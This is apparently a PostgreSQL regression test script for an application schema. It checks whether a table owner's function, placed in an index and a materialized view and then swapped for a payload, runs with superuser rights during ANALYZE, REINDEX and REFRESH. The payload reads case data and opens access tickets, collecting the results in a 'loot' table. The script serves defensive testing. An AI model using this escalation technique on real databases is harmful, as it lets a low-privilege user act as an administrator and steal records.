-- a35: whoever owns a table has his code run by others, and by autovacuum as a superuser: for an index, statistics, a materialized view.
-- It acts as nobody then, whoever began the statement.
CREATE SCHEMA attack_owned AUTHORIZATION regress_colleague;
\c - regress_colleague
CREATE TABLE attack_owned.loot (what text);
CREATE TABLE attack_owned.bait (x int);
CREATE FUNCTION attack_owned.of(x int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT x';
CREATE INDEX bait_of ON attack_owned.bait (attack_owned.of(x));
INSERT INTO attack_owned.bait SELECT 1 FROM generate_series(1, 200);
CREATE MATERIALIZED VIEW attack_owned.view AS SELECT attack_owned.of(x) FROM attack_owned.bait LIMIT 1;
SELECT format($f$CREATE OR REPLACE FUNCTION attack_owned.of(x int) RETURNS int LANGUAGE plpgsql AS $of$
BEGIN
	INSERT INTO attack_owned.loot SELECT s::text FROM pnd.case_summary(%1$L) s;
	PERFORM pnd.open_ticket(%1$L, 'vérification du dossier');
	RETURN x;
EXCEPTION WHEN OTHERS THEN
	INSERT INTO attack_owned.loot VALUES (SQLSTATE || ' ' || SQLERRM);
	RETURN x;
END $of$$f$, :'supported') \gexec
\c - postgres
ANALYZE attack_owned.bait;
SELECT DISTINCT what FROM attack_owned.loot;
DELETE FROM attack_owned.loot;
REINDEX TABLE attack_owned.bait;
SELECT DISTINCT what FROM attack_owned.loot;
DELETE FROM attack_owned.loot;
REFRESH MATERIALIZED VIEW attack_owned.view;
SELECT DISTINCT what FROM attack_owned.loot;
DELETE FROM attack_owned.loot;
-- a policy of ours, too: a view of the registry
\c - regress_colleague
CREATE OR REPLACE FUNCTION attack_owned.of(x int) RETURNS int LANGUAGE plpgsql AS $of$
BEGIN
	INSERT INTO attack_owned.loot SELECT c::text FROM pnd.my_cases c;
	INSERT INTO attack_owned.loot VALUES ('the view was read');
	RETURN x;
EXCEPTION WHEN OTHERS THEN
	INSERT INTO attack_owned.loot VALUES (SQLSTATE || ' ' || SQLERRM);
	RETURN x;
END $of$;
\c - postgres
ANALYZE attack_owned.bait;
SELECT DISTINCT what FROM attack_owned.loot;
SELECT count(*) AS "tickets of an administrator" FROM pnd_data.access_ticket WHERE role_name = 'postgres';
-- control: the same code, called by who acts, acts as he does
SELECT format($f$CREATE OR REPLACE FUNCTION attack_owned.of(x int) RETURNS int LANGUAGE plpgsql AS $of$
BEGIN
	RETURN (SELECT count(*) FROM pnd.case_summary(%1$L));
END $of$$f$, :'supported') \gexec
GRANT USAGE ON SCHEMA attack_owned TO regress_sacha;
\c - regress_sacha
SELECT attack_owned.of(1);
\c - postgres
DROP SCHEMA attack_owned CASCADE;
